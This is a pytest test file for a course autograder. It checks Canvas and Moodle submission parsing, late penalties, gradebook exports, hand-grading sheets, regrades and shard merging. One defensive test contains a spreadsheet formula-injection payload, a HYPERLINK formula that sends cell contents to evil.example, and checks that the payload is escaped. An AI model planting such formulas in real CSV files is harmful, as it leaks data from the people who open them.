"""The instructor's loop on real files the tests write: a Canvas download folder and a roster in,
gradebooks that import (Canvas, Moodle, long format) out, the late policy, a graded cell that
lost its tag, unknown and missing students, hand grading closed by a filled sheet, a regrade of
one student into the existing results, two shards merged equal to one run, and the summary.

One grading run of the class (four notebooks of one topic) is shared by the module; the
tests that change results work on copies of its output folder."""

from __future__ import annotations

import csv
import datetime as dt
import json
import os
import shutil
from pathlib import Path

import nbformat
import pytest

from dlcourse.autograde import handgrade, results
from dlcourse.autograde import notebook as nbmod
from dlcourse.autograde.cli import main
from dlcourse.autograde.engine import discover, hidden_module, module_cases
from dlcourse.autograde.late import LatePolicy, LatePolicyError
from dlcourse.autograde.lms import collect, parse_name
from dlcourse.autograde.roster import RosterError, read_roster
from dlcourse.autograde.shards import parse_shard, shard_students

ROOT = Path(__file__).resolve().parents[1]
TOPIC = "01_perceptron"
SOLUTION = ROOT / "solutions" / f"{TOPIC}.ipynb"
EXERCISE = ROOT / "exercises" / f"{TOPIC}.ipynb"
QUESTIONS = nbmod.questions(nbmod.read(SOLUTION))
AUTO_MAX = sum(q.points for q in QUESTIONS if q.kind == "auto")
FULL_MAX = sum(q.points for q in QUESTIONS)  # the written questions count in the maximum
WRITTEN = [q for q in QUESTIONS if q.kind == "manual"]
DEADLINE = "2026-10-05T23:59:00+00:00"

ROSTER = """id,name,email,section,canvas_id,sis_user_id,sis_login_id,idnumber
s1,Jane Doe,jane.doe@uni.example,A,12345,1001,jdoe,20261001
s2,Bob Smith,bob.smith@uni.example,A,22222,1002,bsmith,20261002
s3,Ann Lee,ann.lee@uni.example,B,33333,1003,alee,20261003
s4,Carol King,carol.king@uni.example,B,44444,1004,cking,20261004
"""
ASSIGNMENTS = f"topic,canvas_name,canvas_id,moodle_name,deadline\n{TOPIC},Perceptron,501,Exercise 01,{DEADLINE}\n"


def _at(path: Path, iso: str) -> None:
    t = dt.datetime.fromisoformat(iso).timestamp()
    os.utime(path, (t, t))


def _without_tag(qid: str):
    """The solution with ``qid``'s graded cell pasted back without its tag, metadata and id."""
    nb = nbmod.read(SOLUTION)
    cell = next(c for c in nb.cells if c.get("id") == qid)
    cell.metadata = {}
    cell["id"] = "pasted-cell"
    return nb


def _grade(args: list[str]) -> int:
    return main(["--course", str(ROOT), "grade", *args, "--jobs", "2", "--quiet"])


@pytest.fixture(scope="module")
def term(tmp_path_factory):
    """A Canvas download of one assignment, a roster, and the graded output folder."""
    base = tmp_path_factory.mktemp("term")
    dl = base / "canvas_download"
    dl.mkdir()
    shutil.copy(SOLUTION, dl / f"doejane_12345_67890_{TOPIC}.ipynb")
    shutil.copy(SOLUTION, dl / f"smithbob_LATE_22222_67891_{TOPIC}-1.ipynb")  # resubmitted, late
    nbformat.write(_without_tag("perceptron_predict"), dl / f"leeann_33333_67892_{TOPIC}.ipynb")
    shutil.copy(EXERCISE, dl / f"strangerxy_99999_67893_{TOPIC}.ipynb")  # not on the roster
    _at(dl / f"doejane_12345_67890_{TOPIC}.ipynb", "2026-10-05T20:00:00+00:00")
    _at(dl / f"smithbob_LATE_22222_67891_{TOPIC}-1.ipynb", "2026-10-07T10:00:00+00:00")  # 1 d 10 h late
    _at(dl / f"leeann_33333_67892_{TOPIC}.ipynb", "2026-10-06T00:05:00+00:00")  # inside the grace period
    _at(dl / f"strangerxy_99999_67893_{TOPIC}.ipynb", "2026-10-01T00:00:00+00:00")
    (base / "roster.csv").write_text(ROSTER)
    (base / "assignments.csv").write_text(ASSIGNMENTS)
    out = base / "out"
    common = ["--roster", str(base / "roster.csv"), "--assignments", str(base / "assignments.csv"),
              "--late-per-day", "10", "--late-max", "50", "--grace-min", "10"]
    code = _grade([str(dl), "--out", str(out), *common])
    return {"base": base, "dl": dl, "out": out, "code": code, "common": common}


def _rows(path: Path) -> list[dict]:
    return list(csv.DictReader(path.open(encoding="utf-8")))


def _copy(term, name: str) -> Path:
    dst = term["base"] / name
    shutil.copytree(term["out"], dst)
    return dst


# --- roster and LMS folders ------------------------------------------------------------


def test_lms_file_names_are_understood():
    c = parse_name(f"doejane_LATE_12345_67890_{TOPIC}-2.ipynb")
    assert c == {"lms": "canvas", "submitter": "doejane", "lms_user_id": "12345", "lms_submission_id": "67890",
                 "late_marker": True, "original_name": f"{TOPIC}.ipynb"}
    assert parse_name(f"doejane_12345_67890_{TOPIC}.ipynb")["late_marker"] is False
    m = parse_name(f"Jane Doe_88_assignsubmission_file_{TOPIC}.ipynb")
    assert m["lms"] == "moodle" and m["submitter"] == "Jane Doe" and m["lms_user_id"] == "88"
    assert m["original_name"] == f"{TOPIC}.ipynb"
    assert parse_name("Jane Doe_88_assignsubmission_file_")["original_name"] is None  # a Moodle folder
    assert parse_name("alice.ipynb") is None and parse_name(f"alice_{TOPIC}.ipynb") is None


def test_a_canvas_login_with_accents_or_a_hyphen_is_still_matched_by_the_user_id(tmp_path):
    """The login part is derived from the student's name; the user id is what matches the roster."""
    for login in ("zoë", "obrien-smith", "李明"):
        info = parse_name(f"{login}_LATE_55555_1_{TOPIC}.ipynb")
        assert info is not None and info["lms"] == "canvas" and info["submitter"] == login
        assert info["lms_user_id"] == "55555" and info["late_marker"] is True
    (tmp_path / "roster.csv").write_text("id,name,canvas_id\ns5,Zoë Ünïcode,55555\n", encoding="utf-8")
    shutil.copy(SOLUTION, tmp_path / f"zoë_55555_1_{TOPIC}.ipynb")
    subs, unknown = collect(tmp_path, read_roster(tmp_path / "roster.csv"))
    assert [s.student for s in subs if s.path.suffix == ".ipynb"] == ["s5"] and unknown == []


def test_a_moodle_download_in_folders_is_matched_by_name(tmp_path):
    dl = tmp_path / "moodle"
    (dl / "Jane Doe_88_assignsubmission_file_").mkdir(parents=True)
    shutil.copy(EXERCISE, dl / "Jane Doe_88_assignsubmission_file_" / "my work.ipynb")
    shutil.copy(EXERCISE, dl / f"Bob Smith_89_assignsubmission_file_{TOPIC}.ipynb")
    shutil.copy(EXERCISE, dl / f"Zed Nobody_90_assignsubmission_file_{TOPIC}.ipynb")
    (tmp_path / "roster.csv").write_text(ROSTER)
    subs, unknown = collect(dl, read_roster(tmp_path / "roster.csv"))
    by = {s.student: s for s in subs}
    assert set(by) == {"s1", "s2", "Zed Nobody"}
    assert by["s1"].info["lms"] == "moodle" and by["s1"].name == "my work.ipynb"
    assert by["s2"].name == f"{TOPIC}.ipynb" and by["s2"].info["submitted_at"]
    assert [u["submitter"] for u in unknown] == ["Zed Nobody"]


def test_a_bad_roster_is_refused_with_the_reason(tmp_path):
    (tmp_path / "r.csv").write_text("name,email\nJane,j@x\n")
    with pytest.raises(RosterError, match="needs an 'id' column"):
        read_roster(tmp_path / "r.csv")
    (tmp_path / "r.csv").write_text("id,name\ns1,Jane\ns1,John\n")
    with pytest.raises(RosterError, match="appears twice"):
        read_roster(tmp_path / "r.csv")


def test_one_student_s_folder_is_named_after_the_folder(tmp_path):
    carol = tmp_path / "subs" / "carol"
    carol.mkdir(parents=True)
    shutil.copy(EXERCISE, carol / f"{TOPIC}.ipynb")
    shutil.copy(EXERCISE, carol / "02_backprop.ipynb")
    assert {s for s, _ in discover(carol)} == {"carol"}
    assert [s for s, _ in discover(carol / f"{TOPIC}.ipynb")] == ["carol"]
    assert {s for s, _ in discover(tmp_path / "subs")} == {"carol"}
    (tmp_path / "subs" / "dave.ipynb").write_text("{}")
    assert [s for s, _ in discover(tmp_path / "subs" / "dave.ipynb")] == ["dave"]


def test_submissions_map_to_the_roster_unknown_ones_are_reported(term):
    assert term["code"] == 0
    state = results.load_state(term["out"])
    students = {r["student"] for r in state["records"]}
    assert students == {"s1", "s2", "s3", "strangerxy"}
    assert [u["submitter"] for u in state["unknown"]] == ["strangerxy"]
    (row,) = _rows(term["out"] / "unknown_submitters.csv")
    assert row["submitter"] == "strangerxy" and row["lms"] == "canvas" and TOPIC in row["files"]
    s2 = next(r for r in state["records"] if r["student"] == "s2")
    assert s2["lms"] == "canvas" and s2["late_marker"] is True and s2["lms_user_id"] == "22222"
    assert s2["topic"] == TOPIC  # from the metadata; the "-1" name would also give it
    assert s2["submitted_at"] == "2026-10-07T10:00:00+00:00"


def test_canvas_csv_has_canvas_columns_a_fixed_maximum_and_numbers(term):
    lines = (term["out"] / "canvas.csv").read_text().splitlines()
    rows = list(csv.reader(lines))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Perceptron (501)"]
    assert rows[1][0].strip() == "Points Possible" and float(rows[1][5]) == FULL_MAX
    body = {r[1]: r for r in rows[2:]}
    assert set(body) == {"12345", "22222", "33333", "44444"}  # roster students only, the unknown one left out
    assert body["12345"][:5] == ["Doe, Jane", "12345", "1001", "jdoe", "A"]
    for r in rows[2:]:
        float(r[5])  # numeric everywhere: no "manual", no empty cell
    assert float(body["12345"][5]) == AUTO_MAX  # written answers are pending: 0 so far
    assert float(body["22222"][5]) == pytest.approx(AUTO_MAX * 0.8)  # 2 days (started) late × 10 %
    assert float(body["33333"][5]) == AUTO_MAX  # 5 minutes late, inside the 10-minute grace
    assert float(body["44444"][5]) == 0  # no submission


def test_moodle_and_long_exports(term):
    moodle = _rows(term["out"] / "moodle.csv")
    assert list(moodle[0]) == ["ID number", "Email address", "Full name", "Exercise 01"]
    by = {r["Email address"]: r for r in moodle}
    assert set(by) == {"jane.doe@uni.example", "bob.smith@uni.example", "ann.lee@uni.example",
                       "carol.king@uni.example"}
    assert by["jane.doe@uni.example"]["ID number"] == "20261001"
    assert float(by["bob.smith@uni.example"]["Exercise 01"]) == pytest.approx(AUTO_MAX * 0.8)
    long = {r["student_id"]: r for r in _rows(term["out"] / "grades_long.csv")}
    assert set(long) == {"s1", "s2", "s3", "s4", "strangerxy"}
    assert long["s4"]["status"] == "missing" and long["s4"]["reason"] == "no submission"
    assert float(long["s4"]["score"]) == 0 and float(long["s4"]["max_score"]) == FULL_MAX
    assert long["s2"]["days_late"] == "2" and float(long["s2"]["late_submission_penalty"]) == pytest.approx(AUTO_MAX * 0.2)
    assert long["s2"]["duedate"] == DEADLINE and long["s2"]["timestamp"] == "2026-10-07T10:00:00+00:00"
    assert long["strangerxy"]["on_roster"] == "no" and float(long["strangerxy"]["score"]) == 0
    for r in long.values():
        for col in ("auto_score", "manual_score", "raw_score", "late_submission_penalty", "score", "max_score"):
            float(r[col])


def test_the_late_penalty_is_shown_to_the_student(term):
    text = (term["out"] / "feedback" / "s2.md").read_text()
    assert "Late: 2 day(s) after the deadline" in text and "−20 %" in text
    assert "Late:" not in (term["out"] / "feedback" / "s3.md").read_text()


def test_late_policy_rule():
    p = LatePolicy({TOPIC: DEADLINE}, percent_per_day=10, max_percent=25, grace_minutes=5)
    assert p.apply(TOPIC, "2026-10-05T23:59:00+00:00")["days_late"] == 0
    assert p.apply(TOPIC, "2026-10-06T00:03:00+00:00")["days_late"] == 0  # grace
    assert p.apply(TOPIC, "2026-10-06T00:05:00+00:00") == {"deadline": DEADLINE, "days_late": 1, "percent": 10}
    assert p.apply(TOPIC, "2026-10-08T00:05:00+02:00")["days_late"] == 2  # offsets are honoured
    assert p.apply(TOPIC, "2026-10-20T00:00:00+00:00")["percent"] == 25  # capped
    assert p.apply("02_backprop", "2030-01-01T00:00:00")["days_late"] == 0  # no deadline for that topic
    assert p.apply("02_backprop", None, late_marker=True)["days_late"] == 1  # Canvas said late, no time known
    with pytest.raises(LatePolicyError, match="ISO 8601"):
        LatePolicy({TOPIC: "next monday"})
    with pytest.raises(LatePolicyError, match="a date alone would mean 00:00"):
        LatePolicy({TOPIC: "2026-10-05"})  # else a hand-in at noon on the due date is a day late
    with pytest.raises(LatePolicyError, match="percent_per_day"):
        LatePolicy({}, percent_per_day=-1)


def test_a_graded_cell_that_lost_its_tag_is_found_by_name_with_a_warning(term):
    state = results.load_state(term["out"])
    s3 = next(r for r in state["records"] if r["student"] == "s3")
    q = next(q for q in s3["questions"] if q["qid"] == "perceptron_predict")
    assert q["points"] == q["max_points"] > 0 and "tag or id was lost" in q["warning"]
    assert "pasted-cell" in q["warning"]
    text = (term["out"] / "feedback" / "s3.md").read_text()
    assert "Warning: the graded cell of perceptron_predict was not found" in text
    s1 = next(r for r in state["records"] if r["student"] == "s1")
    assert not any(q.get("warning") for q in s1["questions"])


def test_a_cell_found_by_name_must_define_the_function_at_top_level():
    nb = _without_tag("perceptron_predict")
    cell = next(c for c in nb.cells if c.get("id") == "pasted-cell")
    cell.source = "if True:\n" + "\n".join("    " + line for line in cell.source.split("\n"))
    extracted = nbmod.extract_graded_code(nb, ["perceptron_predict"])
    assert "not found" in extracted.problems["perceptron_predict"] and not extracted.warnings



def test_of_two_cells_with_one_tag_the_last_is_graded_with_a_warning():
    """Jupyter's copy cell keeps the metadata: a student who copies the stub cell and answers in
    the copy has two cells tagged alike; Run All leaves the last definition, so that one is graded."""
    sol, ex = nbmod.read(SOLUTION), nbmod.read(EXERCISE)
    answer = next(c for c in sol.cells if c.get("id") == "perceptron_predict").copy()
    answer["id"] = "copied-cell"
    at = next(i for i, c in enumerate(ex.cells) if c.get("id") == "perceptron_predict")
    ex.cells.insert(at + 1, answer)
    extracted = nbmod.extract_graded_code(ex, ["perceptron_predict"])
    assert extracted.cells == [("perceptron_predict", answer.source)]
    assert "2 cells are tagged" in extracted.warnings["perceptron_predict"]
    written = next(q for q in WRITTEN)
    copy = next(c for c in ex.cells if c.get("id") == written.qid).copy()
    copy["id"], copy["source"] = "copied-answer", "my real answer"
    ex.cells.append(copy)
    assert nbmod.cells_by_qid(ex)[written.qid] == "my real answer"

# --- hand grading ------------------------------------------------------------------------


def _write_rows(path: Path, rows: list[dict]) -> None:
    with open(path, "w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def _fill(sheet: Path, filled: Path, points: dict[str, str], comment: str = "") -> None:
    rows = _rows(sheet)
    for r in rows:
        if r["student"] in points:
            r["points"], r["comment"] = points[r["student"]], comment
    _write_rows(filled, rows)


def test_hand_grading_sheets_merge_into_totals_gradebooks_and_feedback(term, capsys):
    out = _copy(term, "handgraded")
    assert main(["handgrade", str(out)]) == 0
    q = WRITTEN[0]
    sheet = out / "handgrading" / f"{TOPIC}.{q.qid}.csv"
    page = out / "handgrading" / f"{TOPIC}.{q.qid}.html"
    rows = _rows(sheet)
    assert {r["student"] for r in rows} == {"s1", "s2", "s3", "strangerxy"}  # every graded answer
    assert all(r["points"] == "" and float(r["max_points"]) == q.points for r in rows)
    model_answer = nbmod.solution_lines(next(c for c in nbmod.read(SOLUTION).cells if c.get("id") == q.qid).source)
    s1 = next(r for r in rows if r["student"] == "s1")
    assert model_answer[0] in s1["answer"]  # s1 handed in the solution: its answer is in the sheet
    assert "<pre>" in page.read_text() and "Jane Doe" in page.read_text()
    filled = term["base"] / "filled.csv"
    _fill(sheet, filled, {"s1": "1.5", "s2": "2"}, comment="Name the separating line, please.")
    assert main(["handgrade", str(out), "--import", str(filled)]) == 0
    assert "2 grade(s) changed" in capsys.readouterr().out
    canvas = {r[1]: r for r in csv.reader((out / "canvas.csv").read_text().splitlines()[2:])}
    assert float(canvas["12345"][5]) == pytest.approx(AUTO_MAX + 1.5)
    assert float(canvas["22222"][5]) == pytest.approx((AUTO_MAX + 2) * 0.8)  # the late rule applies to all points
    gradebook = {r["student"]: r for r in _rows(out / "gradebook.csv")}
    assert float(gradebook["s1"][f"{TOPIC}:{q.qid}"]) == 1.5
    feedback = (out / "feedback" / "s1.md").read_text()
    assert f"{q.qid} (written answer, 1.5 / {q.points:g} points" in feedback
    assert "Comment: Name the separating line, please." in feedback
    data = {s["student"]: s for s in json.loads((out / "grades.json").read_text())}
    assert data["s1"]["score"] == pytest.approx(AUTO_MAX + 1.5)
    # importing the same sheet again changes nothing, byte for byte
    before = {p.name: p.read_bytes() for p in out.rglob("*") if p.is_file()}
    assert main(["handgrade", str(out), "--import", str(filled)]) == 0
    assert "0 grade(s) changed" in capsys.readouterr().out
    assert {p.name: p.read_bytes() for p in out.rglob("*") if p.is_file()} == before
    # a new sheet comes back pre-filled
    assert main(["handgrade", str(out)]) == 0
    assert {r["student"]: r["points"] for r in _rows(sheet)}["s1"] == "1.5"


def test_a_bad_sheet_is_refused_and_nothing_is_stored(term, capsys):
    out = _copy(term, "badsheet")
    handgrade.write_sheets(out)
    sheet = out / "handgrading" / f"{TOPIC}.{WRITTEN[0].qid}.csv"
    bad = term["base"] / "bad.csv"
    _fill(sheet, bad, {"s1": str(WRITTEN[0].points + 1)})
    assert main(["handgrade", str(out), "--import", str(bad)]) == 2
    assert f"line 2: points must be from 0 to {WRITTEN[0].points:g}" in capsys.readouterr().err
    _fill(sheet, bad, {"s1": "lots"})
    with pytest.raises(handgrade.SheetError, match="must be a number"):
        handgrade.import_sheets(out, [bad])
    rows = _rows(sheet)
    rows[0]["student"] = "mallory"
    _write_rows(bad, rows)
    with pytest.raises(handgrade.SheetError, match="'mallory' has no graded answer"):
        handgrade.import_sheets(out, [bad])
    rows = _rows(sheet)  # two graders' rows for one student, with different points
    rows = [{**rows[0], "points": "1"}, *rows[1:], {**rows[0], "points": "0"}]
    _write_rows(bad, rows)
    with pytest.raises(handgrade.SheetError, match="'s1' is graded twice"):
        handgrade.import_sheets(out, [bad])
    assert not (out / "manual.json").exists()


def test_an_answer_a_spreadsheet_would_run_as_a_formula_is_written_as_text(term):
    """A student controls the answer cell: ``=HYPERLINK("http://…"&B3, …)`` would send the sheet's
    cells to a web address when the grader opens the CSV in Excel or LibreOffice."""
    out = _copy(term, "formula")
    state = results.load_state(out)
    formula = '=HYPERLINK("http://evil.example/?"&B3,"see")'
    s1 = next(r for r in state["records"] if r["student"] == "s1" and r["status"] == "graded")
    next(q for q in s1["questions"] if q["qid"] == WRITTEN[0].qid)["answer"] = formula
    results.save_state(out, state)
    handgrade.write_sheets(out)
    rows = _rows(out / "handgrading" / f"{TOPIC}.{WRITTEN[0].qid}.csv")
    assert next(r for r in rows if r["student"] == "s1")["answer"] == "'" + formula
    assert [handgrade.spreadsheet_text(t) for t in ("- a bullet", "+1", "@x", "plain")] == [
        "'- a bullet", "'+1", "'@x", "plain"]


# --- regrade, shards and merge -------------------------------------------------------------


def test_regrading_one_student_updates_only_their_rows(term, capsys):
    out = _copy(term, "regraded")
    before = {r[1]: r for r in csv.reader((out / "canvas.csv").read_text().splitlines()[2:])}
    fixed = term["base"] / "bob_fixed"
    fixed.mkdir()
    shutil.copy(SOLUTION, fixed / f"smithbob_22222_70000_{TOPIC}.ipynb")
    _at(fixed / f"smithbob_22222_70000_{TOPIC}.ipynb", "2026-10-05T12:00:00+00:00")  # the on-time original
    assert _grade([str(fixed), "--out", str(out), "--only", "s2"]) == 0  # roster and policy from the folder
    assert "updated 1 student(s)" in capsys.readouterr().out
    after = {r[1]: r for r in csv.reader((out / "canvas.csv").read_text().splitlines()[2:])}
    assert float(after["22222"][5]) == AUTO_MAX  # no longer late
    assert {k: v for k, v in after.items() if k != "22222"} == {k: v for k, v in before.items() if k != "22222"}
    state = results.load_state(out)
    assert sorted(r["student"] for r in state["records"]) == ["s1", "s2", "s3", "strangerxy"]
    assert [Path(r["notebook"]).name for r in state["records"] if r["student"] == "s2"] == [
        f"smithbob_22222_70000_{TOPIC}.ipynb"]


def test_a_hand_grade_does_not_outlive_the_answer_it_graded(term, capsys):
    """Regraded with a new notebook whose written answer changed, a student's old hand grade is
    pending again (and the new sheet is blank for them); everyone else's grade is kept."""
    out = _copy(term, "regraded-written")
    handgrade.write_sheets(out)
    sheet = out / "handgrading" / f"{TOPIC}.{WRITTEN[0].qid}.csv"
    filled = term["base"] / "filled-written.csv"
    _fill(sheet, filled, {"s1": "1", "s2": "1"}, "ok")
    assert handgrade.import_sheets(out, [filled]) == 2
    assert handgrade.import_sheets(out, [filled]) == 0  # idempotent
    new = term["base"] / "bob_new_answer"
    new.mkdir()
    shutil.copy(EXERCISE, new / f"smithbob_22222_70001_{TOPIC}.ipynb")  # the written answer is the template now
    assert _grade([str(new), "--out", str(out), "--only", "s2"]) == 0
    rows = {r["student_id"]: r for r in _rows(out / "grades_long.csv")}
    assert WRITTEN[0].qid in rows["s2"]["reason"] and float(rows["s2"]["manual_score"]) == 0
    assert float(rows["s1"]["manual_score"]) == 1
    handgrade.write_sheets(out)
    points = {r["student"]: r["points"] for r in _rows(sheet)}
    assert points["s1"] == "1" and points["s2"] == ""


def test_shards_are_a_deterministic_partition():
    people = [f"s{i}" for i in range(7)]
    parts = [shard_students(people[::-1], i, 3) for i in (1, 2, 3)]
    assert sorted(sum(parts, [])) == sorted(people) and all(parts)
    assert parts == [shard_students(people, i, 3) for i in (1, 2, 3)]  # whatever the listing order
    for bad in ("0/2", "3/2", "1", "a/b"):
        with pytest.raises(ValueError, match="i/n"):
            parse_shard(bad)


def test_two_shards_merged_equal_one_run(term):
    shard_dirs = []
    for i in (1, 2):
        d = term["base"] / f"shard{i}"
        assert _grade([str(term["dl"]), "--out", str(d), "--shard", f"{i}/2", *term["common"]]) == 0
        shard_dirs.append(d)
    s1, s2 = (results.load_state(d) for d in shard_dirs)
    assert s1["students"] and s2["students"] and not set(s1["students"]) & set(s2["students"])
    assert {r["student"] for r in s1["records"]}.isdisjoint({r["student"] for r in s2["records"]})
    merged = term["base"] / "merged"
    assert main(["merge", str(merged), *map(str, shard_dirs)]) == 0
    for name in ("canvas.csv", "moodle.csv", "grades_long.csv", "gradebook.csv", "unknown_submitters.csv"):
        assert (merged / name).read_text() == (term["out"] / name).read_text(), name
    assert sorted(p.name for p in (merged / "feedback").iterdir()) == sorted(
        p.name for p in (term["out"] / "feedback").iterdir())
    # a student in two shards is refused
    assert main(["merge", str(term["base"] / "twice"), str(shard_dirs[0]), str(shard_dirs[0])]) == 2


def test_a_merge_missing_a_shard_or_mixing_course_versions_is_refused(term, capsys):
    """A failed CI job must not export a slice of the class as "no submission" (zero)."""
    shard_dirs = [term["base"] / f"shard{i}" for i in (1, 2)]
    if not all((d / results.STATE).is_file() for d in shard_dirs):
        test_two_shards_merged_equal_one_run(term)
    capsys.readouterr()
    assert main(["merge", str(term["base"] / "half"), str(shard_dirs[0])]) == 2
    assert "shard(s) 2/2 missing" in capsys.readouterr().err and not (term["base"] / "half").exists()
    other = term["base"] / "other-version"
    shutil.copytree(shard_dirs[1], other)
    state = results.load_state(other)
    state["questions"][TOPIC][0]["points"] += 1  # the course changed between the two jobs
    results.save_state(other, state)
    assert main(["merge", str(term["base"] / "mixed"), str(shard_dirs[0]), str(other)]) == 2
    assert f"different question lists (a course version changed?) for {TOPIC}" in capsys.readouterr().err


# --- summary ---------------------------------------------------------------------------------


def _hidden_case_names() -> list[str]:
    hid = hidden_module(TOPIC, ROOT / "grading")
    return [c.name for q in QUESTIONS if q.kind == "auto" for c in module_cases(hid, q.qid)]


def test_summary_page_is_offline_and_keeps_hidden_cases_hidden(term):
    out = _copy(term, "summary")
    assert main(["summary", str(out)]) == 0
    page = (out / "summary.html").read_text()
    assert (out / "histogram.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert 'src="data:image/png;base64,' in page and "<script" not in page and "http" not in page
    stats = {r["question"]: r for r in _rows(out / "summary.csv")}
    assert set(stats) == {q.qid for q in QUESTIONS}
    auto = [q.qid for q in QUESTIONS if q.kind == "auto"]
    for qid in auto:  # three full solutions and one blank exercise
        assert float(stats[qid]["pass_rate"]) == 0.75
        assert float(stats[qid]["mean"]) == pytest.approx(0.75 * next(q.points for q in QUESTIONS if q.qid == qid))
        assert stats[qid]["failure"].startswith("not implemented")
        assert f"<td>{qid}</td>" in page
    assert stats[WRITTEN[0].qid]["n"] == "0"  # nothing hand-graded yet
    for name in _hidden_case_names():  # neither the page nor a student's feedback names a hidden case
        assert name not in page
        for fb in (out / "feedback").iterdir():
            assert name not in fb.read_text(), (name, fb.name)
    assert "4 students" in page or "5 students" in page


def test_export_rewrites_the_gradebooks_without_regrading(term):
    out = _copy(term, "exported")
    (term["base"] / "assignments2.csv").write_text(
        ASSIGNMENTS + "02_backprop,Backprop,502,Exercise 02,2026-10-12T23:59:00+00:00\n")
    assert main(["--course", str(ROOT), "export", str(out), "--assignments", str(term["base"] / "assignments2.csv"),
                 "--late-per-day", "5", "--late-max", "50", "--grace-min", "10"]) == 0
    rows = list(csv.reader((out / "canvas.csv").read_text().splitlines()))
    assert rows[0][5:] == ["Perceptron (501)", "Backprop (502)"]
    backprop_max = sum(q.points for q in nbmod.questions(nbmod.read(ROOT / "solutions" / "02_backprop.ipynb")))
    assert float(rows[1][6]) == backprop_max  # a fixed maximum before anyone hands it in
    body = {r[1]: r for r in rows[2:]}
    assert float(body["22222"][5]) == pytest.approx(AUTO_MAX * 0.9)  # 2 days × the new 5 %
    assert all(float(r[6]) == 0 for r in rows[2:])
    long = [r for r in _rows(out / "grades_long.csv") if r["assignment"] == "02_backprop"]
    assert {r["status"] for r in long} == {"missing"} and len(long) == 5
